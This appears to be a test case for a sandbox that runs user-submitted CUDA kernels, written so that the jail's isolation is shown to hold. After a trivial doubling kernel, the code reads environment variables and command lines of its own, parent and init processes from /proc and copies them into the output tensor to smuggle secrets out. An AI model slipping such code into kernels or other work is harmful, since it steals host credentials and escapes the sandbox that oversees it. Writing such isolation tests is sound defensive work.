// Escape: read other processes' environments and command lines through /proc (the parent's
// secrets), and put what was found into the output. Expected: the jail has its own PID
// namespace and /proc, so no byte of the host's environment reaches the output.
#include <cuda_runtime.h>
#include <string.h>
extern "C" int open(const char*, int, ...);
extern "C" long read(int, void*, unsigned long);
#include <stdio.h>
__global__ void k(const float* x, float* y, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) y[i] = 2.0f * x[i];
}
extern "C" int launch(const float* x, float* y, int n, cudaStream_t s) {
  k<<<(n + 255) / 256, 256, 0, s>>>(x, y, n);
  cudaDeviceSynchronize();
  static char buf[1 << 16];
  long used = 0;
  // The parent's PID from /proc/self/stat ("pid (comm) state ppid ..."), no syscall needed.
  char stat[512] = {0}, parent[64] = "/proc/1/environ";
  int sfd = open("/proc/self/stat", 0);
  if (sfd >= 0 && read(sfd, stat, sizeof(stat) - 1) > 0) {
    const char* p = strrchr(stat, ')');
    int ppid = 0;
    if (p && sscanf(p + 2, "%*c %d", &ppid) == 1)
      snprintf(parent, sizeof parent, "/proc/%d/environ", ppid);
  }
  const char* paths[] = {"/proc/self/environ", parent, "/proc/1/environ", "/proc/2/environ",
                         "/proc/1/cmdline"};
  for (const char* p : paths) {
    int fd = open(p, 0);
    if (fd < 0) continue;
    long r = read(fd, buf + used, sizeof(buf) - used);
    if (r > 0) used += r;
  }
  // Smuggle the bytes out through the output tensor.
  cudaMemcpy(y, buf, used < (long)(n * sizeof(float)) ? used : n * sizeof(float),
             cudaMemcpyHostToDevice);
  return 0;
}
